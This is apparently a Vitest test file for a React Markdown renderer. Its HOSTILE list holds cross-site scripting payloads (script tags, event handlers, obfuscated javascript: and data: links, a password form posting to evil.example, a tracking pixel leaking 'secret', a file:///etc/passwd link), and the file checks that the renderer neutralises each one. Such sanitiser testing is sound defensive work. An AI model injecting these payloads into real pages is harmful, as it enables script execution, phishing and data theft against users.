import { render, screen } from "@testing-library/react";
import { beforeAll, describe, expect, it, vi } from "vitest";
import { TestHost } from "@/shared/lib/test-host";
import { Markdown, preloadMarkdown } from "./markdown";

const HOSTILE = [
  "$$\\href{javascript:alert(1)}{x}$$",
  "$$\\includegraphics{https://evil.example/a.png}$$",
  "$$\\htmlStyle{color:red}{x}$$",
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked=1'>",
  "text <img src=https://evil.example/p.gif onload=alert(1)> text",
  "<iframe src='https://evil.example'></iframe>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<style>*{display:none}</style>",
  "<form action='https://evil.example'><input name=password type=password></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](java&#10;script:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](file:///etc/passwd)",
  "[x](/api/v1/marketplace/account)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![tracker](https://evil.example/pixel.gif?q=secret)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x][y]\n\n[y]: https://evil.example/pixel.gif",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  '[x](https://a.example "onmouseover=alert(1)")',
  "```html\n<script>window.hacked=1</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "| <script>alert(1)</script> |\n| - |\n| <img src=x onerror=alert(1)> |",
  "[^1]\n\n[^1]: <script>alert(1)</script>",
  "<!-- --><script>alert(1)</script>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
];

beforeAll(preloadMarkdown, 30_000);

function draw(text: string): HTMLElement {
  return render(
    <TestHost>
      <Markdown text={text} />
    </TestHost>,
  ).container;
}

describe("hostile Markdown stays inert", () => {
  it.each(HOSTILE)("%s", (text) => {
    const drawn = draw(text);
    expect(
      drawn.querySelector("script, img, iframe, svg:not(.lucide), style, form, base, meta, object, embed, details, link"),
    ).toBeNull();
    for (const element of drawn.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^srcset$|^formaction$|^xlink/);
        if (name === "src") throw new Error(`fetches ${value}`);
        if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      }
    }
    for (const link of drawn.querySelectorAll("a")) expect(link.rel).toContain("noopener");
    expect((window as unknown as { hacked?: number }).hacked).toBeUndefined();
  });
});

describe("Markdown", () => {
  it("shows where a link really leads when its words say something else", () => {
    const drawn = draw("[https://bank.example](https://evil.example/login) and [docs](https://docs.example)");
    expect(drawn.textContent).toContain("https://bank.example (evil.example)");
    expect(drawn.textContent).toContain("docs (docs.example)");
  });

  it("makes an image a link, so that nothing is fetched unasked", () => {
    draw("![a cat](https://pics.example/cat.png)");
    expect(screen.getByRole("link", { name: "Image: a cat" })).toHaveAttribute("href", "https://pics.example/cat.png");
  });

  it("draws tables, lists and code with their tools", () => {
    draw("- [x] done\n\n| a |\n| - |\n| 1 |\n\n```py\nprint(1)\n```");
    expect(screen.getByRole("checkbox", { name: "done" })).toBeChecked();
    expect(screen.getByRole("table")).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "Copy py code" })).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "Wrap" })).toHaveAttribute("aria-pressed", "false");
    expect(screen.queryByRole("button", { name: "Insert at cursor" })).toBeNull();
  });
});

describe("formulas", () => {
  it("are MathML, in a line and alone, however they are marked", async () => {
    render(
      <TestHost>
        <Markdown text={"Let \\(a^2\\) be $b_1$.\n\n\\[\n\\frac{1}{2}\n\\]\n\nIt costs $5 to $10."} />
      </TestHost>,
    );
    await vi.waitFor(() => expect(document.querySelectorAll("math")).toHaveLength(3), 5000);
    expect(document.querySelector("mfrac")).not.toBeNull();
    expect(screen.getByText("It costs $5 to $10.")).toBeInTheDocument();
  });

  it("that are none stay readable", async () => {
    render(
      <TestHost>
        <Markdown text={"$$\\frac{1}{$$"} />
      </TestHost>,
    );
    expect(await screen.findByText("\\frac{1}{")).toBeInTheDocument();
  });
});
